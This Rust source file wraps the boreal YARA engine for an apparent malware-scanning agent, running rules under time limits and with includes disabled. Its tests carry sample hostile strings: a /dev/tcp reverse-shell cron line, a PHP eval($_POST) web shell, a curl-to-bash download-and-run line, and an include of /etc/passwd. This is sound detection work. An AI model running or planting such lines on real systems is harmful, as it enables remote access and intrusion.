//! YARA rules, through boreal: those of the library and our own.
//!
//! Rules are foreign programs: a regular expression can take for ever. boreal looks at its clock between matches but not within
//! one, so the rules of the library have a thread of their own that is waited for up to a deadline; when they miss it they are
//! given up for the rest of the command, and the thread ends when boreal returns.

use std::panic::AssertUnwindSafe;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::sync::mpsc::{Receiver, SyncSender, sync_channel};
use std::time::Duration;

use boreal::compiler::CompilerParams;
use boreal::scanner::{EvaluatedRule, ScanError, ScanParams};
use boreal::{Compiler, MetadataValue, Scanner};

use super::{Answer, Engine, Finding, Subject, Trouble, answer_within};
use crate::agent::context::{Meter, Stop};
use crate::agent::platform::{thread_cpu_since, thread_cpu_time};

/// Our own rules.
const BUILTIN: &str = include_str!("builtin.yar");
/// How long a set of rules may look at one window: so long, and so much more for each megabyte.
const LOOK: Duration = Duration::from_secs(4);
const LOOK_A_MEGABYTE: Duration = Duration::from_secs(1);
/// How much longer it is waited for.
const GRACE: Duration = Duration::from_secs(10);
/// Rules that took too long so many times are given up.
const MAX_SLOW: u32 = 3;
/// How long the rules of the library may take to be read.
const COMPILE: Duration = Duration::from_mins(1);
/// What a rule weighs that does not say so itself.
const WEIGHT: u32 = 60;
/// The most findings of one window.
const MAX_FINDINGS: usize = 200;

/// Our own rules, compiled.
///
/// # Errors
/// Never but for a defect of the rules: the sentence says which.
pub fn builtin() -> Result<Scanner, String> {
    let mut compiler = Compiler::new();
    compiler.add_rules_str(BUILTIN).map_err(|error| format!("the built-in rules: {error}"))?;
    Ok(with_limits(compiler.finalize()))
}

/// The rules of some files, compiled, with a complaint for each file that is not understood; waited for up to a deadline.
///
/// # Errors
/// When it takes too long, or the command was asked to stop.
pub fn compile(files: Vec<(String, Vec<u8>)>, stop: &Stop) -> Result<(Option<Scanner>, Vec<String>), Trouble> {
    let (sender, receiver) = sync_channel(1);
    let started = std::thread::Builder::new().name("yara".into()).spawn(move || {
        let compiled = std::panic::catch_unwind(AssertUnwindSafe(|| compile_now(files)));
        // Who waits no longer need not know.
        let _ = sender.send(compiled.map_err(|_| ()));
    });
    started.map_err(|error| Trouble::Gone(format!("no thread for the rules: {error}")))?;
    match answer_within(&receiver, COMPILE, stop)? {
        Some(Ok(compiled)) => Ok(compiled),
        Some(Err(())) => Err(Trouble::Gone("the rules of the library cannot be read: boreal failed at them".to_owned())),
        None => Err(Trouble::Gone(format!("the rules of the library took more than {} s to be read", COMPILE.as_secs()))),
    }
}

fn compile_now(files: Vec<(String, Vec<u8>)>) -> (Option<Scanner>, Vec<String>) {
    let (mut taken, mut complaints) = (Vec::new(), Vec::new());
    for (name, bytes) in files {
        // Tried alone first: what a compiler took before it failed at a file would stay in it.
        match std::str::from_utf8(&bytes).map_err(|error| error.to_string()).and_then(|text| {
            let mut alone = compiler();
            alone.add_rules_str_in_namespace(text, &name).map(|_| ()).map_err(|error| said(&error.to_string()))
        }) {
            Ok(()) => taken.push((name, bytes)),
            Err(why) => complaints.push(format!("{name}: {why}")),
        }
    }
    let mut all = compiler();
    for (name, bytes) in &taken {
        if let Err(error) = all.add_rules_str_in_namespace(String::from_utf8_lossy(bytes), name) {
            complaints.push(format!("{name}: {}", said(&error.to_string())));
        }
    }
    ((!taken.is_empty()).then(|| with_limits(all.finalize())), complaints)
}

fn compiler() -> Compiler {
    let mut compiler = Compiler::new();
    // A rule file must not have the agent read files of the device.
    compiler.set_params(CompilerParams::default().disable_includes(true));
    compiler
}

fn with_limits(mut scanner: Scanner) -> Scanner {
    scanner.set_scan_params(limits(0));
    scanner
}

fn limits(bytes: usize) -> ScanParams {
    ScanParams::default().timeout_duration(Some(patience(bytes))).match_max_length(64).string_max_nb_matches(100)
}

/// How long rules may look at so many bytes.
fn patience(bytes: usize) -> Duration {
    LOOK + LOOK_A_MEGABYTE * u32::try_from(bytes / 1_000_000).unwrap_or(u32::MAX)
}

/// The first line of a message.
fn said(message: &str) -> String {
    message.lines().next().unwrap_or_default().trim().to_owned()
}

/// A set of rules as an engine.
pub struct Yara {
    name: &'static str,
    scanner: Scanner,
    stop: Stop,
    meter: Arc<Meter>,
    worker: Option<Worker>,
    /// Whether they are the library's: findings name the file that a rule stands in.
    named: bool,
    /// How many times they took too long.
    slow: u32,
}

struct Worker {
    jobs: SyncSender<(Arc<Vec<u8>>, u64)>,
    answers: Receiver<Looked>,
}

type Looked = Result<Vec<Finding>, Failed>;

/// Why rules have no answer.
#[derive(Debug)]
enum Failed {
    /// They took too long.
    Slow,
    /// Something else.
    Otherwise(String),
}

impl Yara {
    /// Our own rules.
    #[must_use]
    pub fn builtin(scanner: Scanner, stop: Stop, meter: Arc<Meter>) -> Self {
        Self { name: "builtin", scanner, stop, meter, worker: None, named: false, slow: 0 }
    }

    /// The rules of the library.
    #[must_use]
    pub fn library(scanner: Scanner, stop: Stop, meter: Arc<Meter>) -> Self {
        Self { name: "yara", scanner, stop, meter, worker: None, named: true, slow: 0 }
    }

    fn start(&self) -> Result<Worker, Trouble> {
        let (jobs, todo) = sync_channel::<(Arc<Vec<u8>>, u64)>(1);
        let (done, answers) = sync_channel(1);
        let (mut scanner, meter, name, named) = (self.scanner.clone(), Arc::clone(&self.meter), self.name, self.named);
        let work = move || {
            while let Ok((window, at)) = todo.recv() {
                let begun = thread_cpu_time();
                scanner.set_scan_params(limits(window.len()));
                let looked = std::panic::catch_unwind(AssertUnwindSafe(|| look(&scanner, &window, at, name, named)));
                let micros = thread_cpu_since(begun).as_micros();
                meter.cpu_us.fetch_add(u64::try_from(micros).unwrap_or(u64::MAX), Ordering::Relaxed);
                let looked = looked.unwrap_or_else(|_| Err(Failed::Otherwise("boreal failed at it".to_owned())));
                // Let go of before the answer: whoever hears it uses the window's room again.
                drop(window);
                if done.send(looked).is_err() {
                    break;
                }
            }
        };
        let started = std::thread::Builder::new().name("yara".into()).spawn(work);
        started.map_err(|error| Trouble::Gone(format!("no thread for the rules: {error}")))?;
        Ok(Worker { jobs, answers })
    }
}

fn look(scanner: &Scanner, window: &[u8], at: u64, engine: &'static str, named: bool) -> Looked {
    let (found, timed_out) = match scanner.scan_mem(window) {
        Ok(found) => (found, false),
        Err((ScanError::Timeout, found)) => (found, true),
        Err((error, _)) => return Err(Failed::Otherwise(error.to_string())),
    };
    let tell = |rule: &EvaluatedRule<'_>| finding(scanner, rule, at, engine, named);
    let findings: Vec<Finding> = found.rules.iter().take(MAX_FINDINGS).map(tell).collect();
    if timed_out && findings.is_empty() {
        return Err(Failed::Slow);
    }
    Ok(findings)
}

fn finding(scanner: &Scanner, rule: &EvaluatedRule<'_>, at: u64, engine: &'static str, named: bool) -> Finding {
    let (mut weight, mut description) = (None, None);
    for meta in rule.metadatas {
        match (scanner.get_string_symbol(meta.name), meta.value) {
            ("weight", MetadataValue::Integer(value)) => weight = Some(value),
            ("score", MetadataValue::Integer(value)) => weight = weight.or(Some(value)),
            ("description", MetadataValue::Bytes(text)) => {
                description =
                    Some(String::from_utf8_lossy(scanner.get_bytes_symbol(text)).chars().take(300).collect::<String>());
            }
            _ => {}
        }
    }
    let first = rule.matches.iter().filter_map(|found| Some((found.matches.first()?.offset, found.name))).min();
    let place = first.map(|(offset, name)| format!("${name} at byte {}", at.saturating_add(offset as u64)));
    let mut what = description.unwrap_or_else(|| "its content matches".to_owned());
    if let Some(place) = place {
        what = format!("{what} ({place})");
    }
    Finding {
        engine,
        rule: if named { format!("{}:{}", rule.namespace, rule.name) } else { rule.name.to_owned() },
        weight: weight.map_or(WEIGHT, |weight| u32::try_from(weight.clamp(0, 100)).unwrap_or(WEIGHT)),
        what,
        place: None,
    }
}

impl Engine for Yara {
    fn name(&self) -> &'static str {
        self.name
    }

    fn look(&mut self, _subject: &Subject<'_>, window: &Arc<Vec<u8>>, at: u64) -> Answer {
        let patience = patience(window.len());
        let slow = || format!("its rules took more than {} s for {} bytes", patience.as_secs(), window.len());
        let looked = if self.named {
            let worker = match self.worker.take() {
                Some(worker) => worker,
                None => self.start()?,
            };
            let gone = || Trouble::Gone("its thread is gone".to_owned());
            worker.jobs.send((Arc::clone(window), at)).map_err(|_| gone())?;
            // Rules that miss their deadline keep the window they have; the others look at it all the same.
            let Some(looked) = answer_within(&worker.answers, patience + GRACE, &self.stop)? else {
                return Err(Trouble::Gone(format!("{} and are given up", slow())));
            };
            self.worker = Some(worker);
            looked
        } else {
            // Our own rules are known to end: no thread, which costs more than they do on small files.
            self.scanner.set_scan_params(limits(window.len()));
            look(&self.scanner, window, at, self.name, self.named)
        };
        match looked {
            Ok(findings) => Ok(findings),
            Err(Failed::Otherwise(why)) => Err(Trouble::Here(why)),
            Err(Failed::Slow) => {
                self.slow += 1;
                if self.slow < MAX_SLOW {
                    Err(Trouble::Here(slow()))
                } else {
                    Err(Trouble::Gone(format!("{}, and are given up", slow())))
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn our_own_rules_compile_and_do_not_match_themselves() {
        let scanner = builtin().unwrap();
        assert!(scanner.rules().count() >= 6);
        let text = include_bytes!("builtin.yar");
        let check = |bytes: &[u8]| look(&scanner, bytes, 0, "builtin", false).unwrap();
        assert_eq!(check(text), []);
        assert_eq!(check(&[b"\x7fELF".as_slice(), &[0; 12], &[3, 0], text].concat()), []);
    }

    #[test]
    fn what_they_are_for_is_found() {
        let scanner = builtin().unwrap();
        let check = |text: &str, rule: &str, weight: u32| {
            let found = look(&scanner, text.as_bytes(), 0, "builtin", false).unwrap();
            assert_eq!(
                found.iter().map(|found| (found.rule.as_str(), found.weight)).collect::<Vec<_>>(),
                [(rule, weight)],
                "{text}"
            );
        };
        let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].concat();
        check(&eicar, "eicar_test_file", 100);
        check(&format!("\x7fELF..{eicar}"), "eicar_test_file", 100);
        let dev = "dev";
        check(&format!("* * * * * root bash -i >& /{dev}/tcp/192.0.2.1/4444 0>&1"), "reverse_shell", 60);
        check(&format!("<?php @{}($_{}['x']); ?>", "eval", "POST"), "php_web_shell", 70);
        check(&format!("{} -s http://192.0.2.7/x.sh | bash", "curl"), "downloads_and_runs", 40);
        for clean in ["", "text", "echo /dev/tcp", "<?php echo $_POST['x']; ?>", "curl -sSf https://sh.rustup.rs | sh"] {
            assert_eq!(look(&scanner, clean.as_bytes(), 0, "builtin", false).unwrap(), [], "{clean}");
        }
    }

    #[test]
    fn files_that_are_no_rules_are_complained_of_and_the_rest_is_taken() {
        let files =
            [("bad.yar", "rule {"), ("include.yar", "include \"/etc/passwd\""), ("good.yar", "rule x { condition: true }")];
        let files = files.map(|(name, text)| (name.to_owned(), text.as_bytes().to_vec())).to_vec();
        let (scanner, complaints) = compile(files, &Stop::default()).unwrap();
        assert_eq!(scanner.unwrap().rules().count(), 1);
        assert_eq!(complaints.iter().map(|why| why.split(':').next().unwrap()).collect::<Vec<_>>(), ["bad.yar", "include.yar"]);
    }
}
